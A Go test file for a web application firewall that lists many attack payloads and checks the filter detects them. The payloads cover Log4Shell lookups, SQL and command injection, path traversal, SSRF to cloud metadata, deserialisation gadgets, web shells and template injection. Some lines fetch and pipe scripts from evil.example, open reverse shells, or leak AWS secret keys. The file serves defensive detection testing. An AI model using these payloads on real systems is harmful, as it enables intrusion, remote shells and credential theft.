// SPDX-License-Identifier: Apache-2.0

package waf_test

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"

	"github.com/holdfast-project/holdfast/rules/waf"
)

// attack is a value that must be found, in the parameter of a query unless it says otherwise.
type attack struct {
	value string
	rule  string // the rule or a family's beginning
	in    string // param, header, cookie, path, json, form, body, file, query, name
}

func filter(t testing.TB, cfg waf.Config) *waf.Filter {
	t.Helper()
	f, err := waf.Compile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// request puts a value where an attack says.
func request(a attack) *waf.Request {
	r := &waf.Request{Method: []byte("GET"), Target: []byte("/search?lang=en"), Host: []byte("shop.example.com")}
	r.Headers = []waf.Pair{{[]byte("User-Agent"), []byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36")}}
	switch a.in {
	case "", "param":
		r.Target = []byte("/item?lang=en&q=" + url.QueryEscape(a.value) + "&page=2")
	case "name":
		r.Target = []byte("/item?" + url.QueryEscape(a.value) + "=1")
	case "query":
		r.Target = []byte("/item?" + a.value)
	case "path":
		r.Target = []byte(a.value)
	case "header":
		name, value, _ := strings.Cut(a.value, ": ")
		r.Headers = append(r.Headers, waf.Pair{Name: []byte(name), Value: []byte(value)})
	case "cookie":
		r.Headers = append(r.Headers, waf.Pair{Name: []byte("Cookie"), Value: []byte("lang=en; theme=" + a.value + "; a=b")})
	case "form":
		r.Method, r.ContentType = []byte("POST"), []byte("application/x-www-form-urlencoded")
		r.Body = []byte("name=x&comment=" + url.QueryEscape(a.value))
	case "json":
		r.Method, r.ContentType = []byte("POST"), []byte("application/json")
		r.Body = []byte(`{"name":"x","value":"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(a.value) + `"}`)
	case "body":
		r.Method, r.ContentType = []byte("POST"), []byte("application/xml")
		r.Body = []byte(a.value)
	case "file":
		r.Method, r.ContentType = []byte("POST"), []byte("multipart/form-data; boundary=zz9")
		r.Body = []byte("--zz9\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\n" + a.value + "\r\n--zz9--\r\n")
	default:
		panic("no place " + a.in)
	}
	return r
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

var log4shell = []attack{
	{value: "${jndi:ldap://evil.example/a}"},
	{value: "${jndi:ldap://evil.example/a}", in: "json"},
	{value: "User-Agent: ${jndi:ldap://evil.example/a}", in: "header"},
	{value: "X-Api-Version: ${jndi:rmi://evil.example/a}", in: "header"},
	{value: "${JNDI:dns://evil.example/a}"},
	{value: "${${lower:j}ndi:${lower:l}dap://evil.example/a}"},
	{value: "${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/a}", in: "form"},
	{value: "${${upper:j}${upper:n}di:ldap://evil.example/a}"},
	{value: "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}"},
	{value: "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://evil.example/a}"},
	{value: "${${sys:nothing:-j}ndi:ldap://evil.example/a}"},
	{value: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}"},
	{value: "${jnd${upper:ı}:ldap://evil.example/a}"},
	{value: "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}"},
	{value: "${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}"},
	{value: "${${:-j}${:-n}${:-d}${:-i}:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}"},
	{value: "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsL2F9}${${base64:am5kaQ==}:ldap://evil.example/a}"},
	{value: "/a?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", in: "path"},
	{value: "/a?q=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D", in: "path"},
	{value: "/%24%7Bjndi:ldap://evil.example/a%7D/", in: "path"},
	{value: `\u0024\u007bjndi:ldap://evil.example/a\u007d`, in: "form"},
	{value: "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}", in: "cookie"},
	{value: "${jndi:ldap://evil.example/", in: "body"},
	{value: "X-Token: " + b64("x=${jndi:ldap://evil.example/a}"), in: "header"},
	{value: b64("ab${${lower:j}ndi:ldap://evil.example/a}")},
	{value: "${${k8s:k5:-J}${k8s:k5:-ND}${sd:k5:-I:}ldap://evil.example/a}"},
	{value: "prefix text ${ctx:loginId} ${${::-j}ndi:ldap://evil.example/a} suffix", in: "json"},
	{value: "${${lower:x}${lower:y}${lower:z}${lower:q}}", rule: "log4shell-hidden"},
}

var traversal = []attack{
	{value: "/../../../../etc/passwd", in: "path"},
	{value: "/static/..%2f..%2f..%2fetc/passwd", in: "path"},
	{value: "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", in: "path"},
	{value: "/static/%252e%252e%252f%252e%252e%252fetc/passwd", in: "path"},
	{value: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", in: "path"},
	{value: "/a/..%c0%af..%c0%afwindows/win.ini", in: "path"},
	{value: "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/b", in: "path"},
	{value: "/a/..%5c..%5c..%5cboot.ini", in: "path"},
	{value: "/app/..;/manager/html", in: "path"},
	{value: "/a/%uff0e%uff0e/%uff0e%uff0e/x", in: "path"},
	{value: "/a/．．／．．／etc/passwd", in: "path"},
	{value: "../../../../etc/passwd"},
	{value: "../../../app/secret.key"},
	{value: "....//....//....//etc/passwd"},
	{value: "..././..././..././etc/passwd"},
	{value: "/etc/passwd"},
	{value: "/etc/passwd%00.png"},
	{value: "file:///etc/passwd"},
	{value: "file:///etc/shadow", in: "json"},
	{value: "php://filter/convert.base64-encode/resource=index.php"},
	{value: "php://input"},
	{value: "expect://id"},
	{value: "phar:///tmp/x.jpg"},
	{value: "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="},
	{value: "data:text/html;base64,PD9waHAgc3lzdGVt"},
	{value: `..\..\..\windows\win.ini`},
	{value: `C:\windows\win.ini`},
	{value: "img/../../../WEB-INF/web.xml"},
	{value: "../../../../proc/self/environ", in: "form"},
	{value: "../../../../var/run/secrets/kubernetes.io/serviceaccount/token", in: "json"},
	{value: "q=..%252f..%252f..%252fetc%252fhosts", in: "query"},
	{value: "../../../../../../etc/hosts", in: "cookie"},
	{value: "X-Original-File: ../../../../etc/passwd", in: "header"},
	{value: "X-Path: ....//....//....//etc/passwd", in: "header"},
	{value: "/.env", in: "path", rule: "file-probe"},
	{value: "/.git/config", in: "path", rule: "file-probe"},
}

var sqlInjection = []attack{
	{value: "1' or '1'='1"},
	{value: "' or 1=1 --"},
	{value: "' or 1=1#"},
	{value: "' or ''='"},
	{value: "admin' or '1'='1' --"},
	{value: "admin'--"},
	{value: "admin' #"},
	{value: "admin'/*"},
	{value: `" or ""="`},
	{value: `x" or "a"="a`},
	{value: "') or ('1'='1"},
	{value: "1) or (1=1"},
	{value: "1 or 1=1"},
	{value: "1 OR 1=1 LIMIT 1 -- -"},
	{value: "1 and 1=2"},
	{value: "1'/**/or/**/1=1--"},
	{value: "1'\nor\n1=1--"},
	{value: "1 /*!50000or*/ 1=1"},
	{value: "1'||'1'='1"},
	{value: "1' || 1=1 #"},
	{value: "1' && '1'='1"},
	{value: "' or true--"},
	{value: "' OR 'x' LIKE 'x"},
	{value: "' or 2 between 1 and 3--"},
	{value: "' xor 1=1--"},
	{value: "' or not 1=2--"},
	{value: "1' and ascii(substring((select password from users limit 1),1,1))>64--"},
	{value: "1 and (select count(*) from users)>0"},
	{value: "1 and exists(select * from users)"},
	{value: "-1 union select 1,2,3"},
	{value: "-1 UNION ALL SELECT NULL,NULL,version()--"},
	{value: "1' union select username,password from users--"},
	{value: "' uNiOn/**/sElEcT/**/1,2,3#"},
	{value: "' union/*!*/select 1,@@version -- -"},
	{value: "1) union select 1,2--"},
	{value: "x' union select table_name,null from information_schema.tables where '1'='1"},
	{value: "1e0union select 1,2"},
	{value: "' union select * from users--"},
	{value: "1; drop table users"},
	{value: "1'; drop table users--"},
	{value: "'; exec xp_cmdshell('dir')--"},
	{value: "1;waitfor delay '0:0:5'--"},
	{value: "1'; waitfor delay '0:0:5'--"},
	{value: "'; insert into users values('a','b')--"},
	{value: "1; update users set admin=1 where id=1"},
	{value: "'; delete from users--"},
	{value: "1; select pg_sleep(5)"},
	{value: "'; declare @x varchar(99); exec(@x)--"},
	{value: "'; shutdown--"},
	{value: "1 and sleep(5)"},
	{value: "1' and sleep(5)#"},
	{value: "1' and (select 1 from (select(sleep(5)))a)--"},
	{value: "(select(0)from(select(sleep(5)))v)"},
	{value: "if(now()=sysdate(),sleep(10),0)"},
	{value: "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z"},
	{value: "1 or benchmark(10000000,md5(1))"},
	{value: "1' and extractvalue(1,concat(0x7e,version()))--"},
	{value: "1' and updatexml(1,concat(0x7e,user()),1)--"},
	{value: "'||(select password from users limit 1)||'"},
	{value: "'+(select top 1 name from sysobjects)+'"},
	{value: "1 order by 10--"},
	{value: "1' order by 3#"},
	{value: "1' group by 1,2 having 1=1--"},
	{value: "1' having 1=1--"},
	{value: "' into outfile '/var/www/x.php'--"},
	{value: "1 procedure analyse(extractvalue(rand(),1),1)"},
	{value: "'='"},
	{value: "'-'"},
	{value: "' or 1=1 --", in: "form"},
	{value: "' or 1=1 --", in: "json"},
	{value: "1' or '1'='1", in: "cookie"},
	{value: "X-Forwarded-For: 1' or sleep(5)#", in: "header"},
	{value: "/item/1'%20or%20'1'='1", in: "path"},
	{value: "/item/1%20union%20select%201,2,3", in: "path"},
	{value: "q=%2527%2520or%25201%253D1--", in: "query"},
}

var commandInjection = []attack{
	{value: ";id"},
	{value: "|id"},
	{value: "127.0.0.1;id"},
	{value: "127.0.0.1; cat /etc/passwd"},
	{value: "127.0.0.1 | whoami"},
	{value: "127.0.0.1 && whoami"},
	{value: "127.0.0.1|ls -la"},
	{value: "x; ls -la /"},
	{value: "`id`"},
	{value: "$(id)"},
	{value: "$(cat /etc/passwd)"},
	{value: "a$(whoami)b"},
	{value: "x`whoami`"},
	{value: ";cat${IFS}/etc/passwd"},
	{value: ";{cat,/etc/passwd}"},
	{value: ";c\\at /etc/passwd"},
	{value: ";w'h'oami"},
	{value: ";/bin/c?t /etc/passwd"},
	{value: ";/???/??t /etc/passwd"},
	{value: "127.0.0.1\ncat /etc/passwd"},
	{value: "| nc -e /bin/sh 10.0.0.1 4444"},
	{value: "; wget http://evil.example/x.sh -O- | sh"},
	{value: "& ping -c 10 127.0.0.1 &"},
	{value: "; sleep 10"},
	{value: "|| sleep 10 ||"},
	{value: "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
	{value: "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", in: "json"},
	{value: ";rm -rf /tmp/*"},
	{value: "cd+/tmp;rm+-rf+*;wget+http://evil.example/mozi.m;sh+/tmp/mozi.m", in: "query"},
	{value: "x' ; whoami #"},
	{value: "a.txt;curl http://evil.example/$(whoami)"},
	{value: "x|powershell -enc SQBFAFgA"},
	{value: "& dir"},
	{value: "127.0.0.1;id", in: "form"},
	{value: "X-Forwarded-For: 127.0.0.1; cat /etc/passwd", in: "header"},
	{value: "X-Real-IP: 127.0.0.1 && whoami", in: "header"},
	{value: "User-Agent: $(cat /etc/passwd)", in: "header"},
	{value: "X-Version: `whoami`", in: "header"},
	{value: "127.0.0.1; cat /etc/passwd", in: "json"},
	{value: "/cgi-bin/;cat$IFS/etc/passwd", in: "path"},
	{value: "; echo vulnerable"},
	{value: "; python3 -c 'import os'"},
	{value: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"},
}

var requestForgery = []attack{
	{value: "http://169.254.169.254/latest/meta-data/"},
	{value: "http://169.254.169.254/latest/meta-data/", in: "json"},
	{value: "169.254.169.254/latest/meta-data/"},
	{value: "//169.254.169.254/"},
	{value: "http://2852039166/"},
	{value: "http://0xa9fea9fe/"},
	{value: "http://0xa9.0xfe.0xa9.0xfe/"},
	{value: "http://0251.0376.0251.0376/"},
	{value: "http://169.254.43518/"},
	{value: "http://[::ffff:169.254.169.254]/"},
	{value: "http://[::ffff:a9fe:a9fe]/"},
	{value: "http://[64:ff9b::a9fe:a9fe]/"},
	{value: "http://[fd00:ec2::254]/latest/"},
	{value: "http://metadata.google.internal/computeMetadata/v1/"},
	{value: "http://169.254.169.254.nip.io/"},
	{value: "http://user@169.254.169.254/"},
	{value: "http://169.254.170.2/v2/credentials"},
	{value: "http://100.100.100.200/latest/meta-data"},
	{value: "http://2130706433/"},
	{value: "http://0x7f000001/"},
	{value: "http://0177.0.0.1/"},
	{value: "http://127.1/"},
	{value: "http://[::ffff:127.0.0.1]:8080/"},
	{value: "http://0/"},
	{value: "gopher://127.0.0.1:6379/_FLUSHALL"},
	{value: "dict://127.0.0.1:11211/stats"},
	{value: "ldap://evil.example/a"},
	{value: "https://kubernetes.default.svc/api/v1/secrets"},
	{value: "http:/\\169.254.169.254/", in: "form"},
	{value: "http://127.0.0.1:8080/admin", rule: "ssrf-loopback"},
}

var deserialisation = []attack{
	{value: "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", in: "body"},
	{value: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="},
	{value: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", in: "cookie"},
	{value: "aced00057372001164617461"},
	{value: `O:8:"EvilType":1:{s:4:"file";s:11:"/etc/passwd";}`},
	{value: `a:1:{i:0;O:4:"Evil":0:{}}`, in: "form"},
	{value: b64("\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.")},
	{value: b64("cos\nsystem\n(S'id'\ntR."), in: "cookie"},
	{value: "\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.", in: "body"},
	{value: "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=", in: "form"},
	{value: `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`, in: "body"},
	{value: `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.example/a"}`, in: "body"},
	{value: `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, in: "body"},
	{value: `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]`, in: "body"},
	{value: `!!python/object/apply:os.system ["id"]`, in: "body"},
	{value: `<java version="1.7" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"></object></java>`, in: "body"},
	{value: `<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler">`, in: "body"},
}

var webShell = []attack{
	{value: "cmd=whoami", in: "query"},
	{value: "cmd=id", in: "query"},
	{value: "cmd=cat+/etc/passwd", in: "query"},
	{value: "exec=ls+-la", in: "query"},
	{value: "command=uname+-a", in: "query"},
	{value: "cmd=powershell+-enc+SQBFAFgA", in: "query"},
	{value: "@eval(base64_decode($_POST[z0]));", in: "form"},
	{value: "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIp", in: "form"},
	{value: "system('id');"},
	{value: "assert($_POST['x'])", in: "form"},
	{value: "<?php system($_GET['c']); ?>", in: "file"},
	{value: "GIF89a<?php @eval($_POST['pass']);?>", in: "file"},
	{value: `<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>`, in: "file"},
	{value: `<%eval request("pass")%>`, in: "file"},
	{value: "<?php shell_exec($_REQUEST['cmd']);", in: "form"},
	{value: "<?php eval(base64_decode($_POST['x'])); ?>", in: "body"},
}

var templateInjection = []attack{
	{value: "{{7*7}}"},
	{value: "${7*7}"},
	{value: "#{7*7}"},
	{value: "<%= 7*7 %>"},
	{value: "{{7*'7'}}"},
	{value: "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{value: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", in: "form"},
	{value: "{{config}}"},
	{value: "{{config.items()}}"},
	{value: "{{request.application.__globals__.__builtins__.__import__('os')}}", in: "json"},
	{value: "{{lipsum.__globals__}}"},
	{value: "{{constructor.constructor('alert(1)')()}}"},
	{value: `<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`},
	{value: "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{value: "{{['id']|filter('system')}}"},
	{value: "{{_self.env.registerUndefinedFilterCallback('exec')}}"},
	{value: "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}"},
	{value: "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime').getRuntime())"},
}

var externalEntity = []attack{
	{value: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, in: "body"},
	{value: `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>`, in: "body"},
	{value: `<!DOCTYPE r [<!ENTITY x PUBLIC "a" "http://evil.example/">]><r>&x;</r>`, in: "body"},
	{value: `<!doctype r SYSTEM "file:///etc/passwd"><r/>`, in: "body"},
	{value: `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>`, in: "body"},
	{value: `<svg><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]></svg>`, in: "file"},
	{value: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, in: "form"},
	{value: `<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;"><!ENTITY d "&c;&c;"><!ENTITY e "&d;&d;">]><l>&e;</l>`, in: "body"},
	{value: "<\x00!\x00E\x00N\x00T\x00I\x00T\x00Y\x00 \x00x\x00 \x00S\x00Y\x00S\x00T\x00E\x00M\x00 \x00\"\x00f\x00\"\x00>\x00", in: "body"},
}

var others = []attack{
	{value: "x\r\nSet-Cookie: a=b", rule: "response-split"},
	{value: "x\nLocation: http://evil.example/", rule: "response-split"},
	{value: "q=x%250d%250aSet-Cookie:a=b", in: "query", rule: "response-split"},
	{value: "q=x%E5%98%8A%E5%98%8DSet-Cookie:a=b", in: "query", rule: "response-split"},
	{value: "Transfer-Encoding: xchunked", in: "header", rule: "smuggling-framing"},
	{value: "Transfer-Encoding : chunked", in: "header", rule: "smuggling-framing"},
	{value: "Content-Length: 1x", in: "header", rule: "smuggling-framing"},
	{value: "Transfer-Encoding: chunked, identity", in: "header", rule: "smuggling-framing"},
	{value: "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n", in: "body", rule: "smuggling-request"},
	{value: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", in: "name", rule: "spring-class-loader"},
	{value: "class.classLoader.URLs[0]", in: "name", rule: "spring-class-loader"},
	{value: "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")", in: "header", rule: "spring-routing"},
	{value: "User-Agent: () { :;}; /bin/bash -c 'id'", in: "header", rule: "shellshock"},
	{value: "Referer: () { ignored; }; echo; /usr/bin/id", in: "header", rule: "shellshock"},
	{value: "X: () { _; } >_[$($())] { id; }", in: "header", rule: "shellshock"},
	{value: "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", in: "header", rule: "ognl-expression"},
	{value: "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/", in: "path", rule: "ognl-expression"},
	{value: "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#a=@java.lang.Runtime@getRuntime()}", rule: "ognl-expression"},
	{value: "%{#request['struts.valueStack'].context}", rule: "ognl-expression"},
	{value: "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)", in: "header", rule: "scanner"},
	{value: "User-Agent: Mozilla/5.0 (Nikto/2.1.6)", in: "header", rule: "scanner"},
}

func TestAttacks(t *testing.T) {
	f := filter(t, waf.Config{Level: 2})
	for _, set := range []struct {
		family  string
		attacks []attack
	}{
		{"log4shell", log4shell}, {"path-traversal", traversal}, {"sql-injection", sqlInjection}, {"command-injection", commandInjection},
		{"request-forgery", requestForgery}, {"deserialisation", deserialisation}, {"web-shell", webShell},
		{"template-injection", templateInjection}, {"external-entity", externalEntity}, {"", others},
	} {
		for _, a := range set.attacks {
			hits := f.Request(nil, request(a))
			if !met(hits, set.family, a.rule) {
				t.Errorf("%s %s in %q: %q: not found, but %s", set.family, a.rule, a.in, a.value, list(hits))
			}
		}
		t.Logf("%-20s %d", set.family, len(set.attacks))
	}
}

func met(hits []waf.Hit, family, rule string) bool {
	for _, h := range hits {
		if (family == "" || h.Rule.Family.String() == family) && (rule == "" || h.Rule.ID == rule) {
			return true
		}
	}
	return false
}

func list(hits []waf.Hit) string {
	var s []string
	for _, h := range hits {
		s = append(s, h.Rule.ID+" in "+h.Kind.String()+" "+h.Name+": "+h.Evidence)
	}
	return strings.Join(s, "; ")
}

func TestTwoLengths(t *testing.T) {
	f := filter(t, waf.Config{})
	r := &waf.Request{Target: []byte("/"), Headers: []waf.Pair{
		{Name: []byte("Content-Length"), Value: []byte("5")}, {Name: []byte("Transfer-Encoding"), Value: []byte("chunked")},
	}}
	if hits := f.Request(nil, r); !met(hits, "request-smuggling", "smuggling-both") {
		t.Errorf("a length and a coding: %s", list(hits))
	}
	r.Headers[1] = waf.Pair{Name: []byte("Content-Length"), Value: []byte("6")}
	if hits := f.Request(nil, r); !met(hits, "request-smuggling", "smuggling-framing") {
		t.Errorf("two lengths: %s", list(hits))
	}
	r.Headers = r.Headers[:1]
	if hits := f.Request(nil, r); len(hits) != 0 {
		t.Errorf("one length: %s", list(hits))
	}
}

func TestEvidence(t *testing.T) {
	f := filter(t, waf.Config{})
	hits := f.Request(nil, request(attack{value: "-1 union select password='hunter2',4111111111111111,\"\x1b[31m<b>\" from users where a='" + strings.Repeat("x", 300) + "'"}))
	if len(hits) != 1 {
		t.Fatalf("hits: %s", list(hits))
	}
	e := hits[0].Evidence
	if len(e) > 120 || strings.Contains(e, "hunter2") || strings.Contains(e, "4111111111111111") || strings.Contains(e, "\x1b") {
		t.Errorf("evidence %q shows what it must not", e)
	}
	if !strings.Contains(e, "union select") || hits[0].Name != "q" || hits[0].Kind != waf.Param {
		t.Errorf("hit %+v does not say what and where", hits[0])
	}
}

func TestConfig(t *testing.T) {
	if _, err := waf.Compile(waf.Config{Disable: []string{"no-such"}}); err == nil {
		t.Error("a rule that does not exist was disabled")
	}
	if _, err := waf.Compile(waf.Config{Level: 3}); err == nil {
		t.Error("level 3 was taken")
	}
	f := filter(t, waf.Config{Disable: []string{"sql-injection", "log4shell-jndi"}})
	for _, value := range []string{"1' or '1'='1", "${jndi:ldap://evil.example/a}"} {
		if hits := f.Request(nil, request(attack{value: value})); len(hits) != 0 {
			t.Errorf("%q: %s though disabled", value, list(hits))
		}
	}
	loopback := request(attack{value: "http://127.0.0.1:3000/callback"})
	if hits := filter(t, waf.Config{}).Request(nil, loopback); len(hits) != 0 {
		t.Errorf("level 1: %s", list(hits))
	}
}
